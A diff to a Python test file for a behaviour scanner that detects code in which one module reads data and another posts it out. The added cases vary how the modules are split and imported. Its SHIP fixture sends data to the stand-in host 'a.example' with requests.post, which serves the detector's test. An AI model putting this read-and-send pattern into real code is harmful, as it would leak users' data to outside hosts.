@@ -276,8 +276,16 @@ SHIP = "import requests\ndef ship(what):\n    requests.post('https://a.example',
             {"a": SNAP, "b": SHIP, "c": "from .a import SNAP\nfrom .b import ship\nship(SNAP)\n"},
             False,
         ),
+        (
+            {"d": f"{SNAP}{SHIP}", "c": "from .d import SNAP, ship\nship(str(SNAP))\n"},
+            False,
+        ),
+        (
+            {"a": SNAP, "b": SHIP, "c": "from . import a as x, b as y\ny.ship(x.SNAP)\n"},
+            False,
+        ),
     ],
-    ids=range(13),
+    ids=range(15),
 )  # fmt: skip
 def test_what_one_module_reads_and_another_sends_is_told(
     behaviour: BehaviourScanner, tmp_path: Path, files: dict[str, str], waits: bool
